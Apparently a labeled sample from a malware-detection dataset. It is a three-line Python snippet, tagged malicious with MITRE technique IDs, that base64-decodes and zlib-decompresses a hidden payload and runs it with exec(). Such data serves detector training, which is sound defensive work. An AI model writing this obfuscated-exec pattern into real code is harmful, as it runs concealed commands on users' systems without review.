# label: malicious family=encoded techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=3-4
import zlib, base64
payload = "eJzLzC3ILypRyC+2zi/WK64sLknN1VBKLi3KUdAtVsgoKSmw0tc3tLTQMzXUMzQw0DMz1K/QK85QqFEozlDSBACCqBLi"
exec(zlib.decompress(base64.b64decode(payload)))
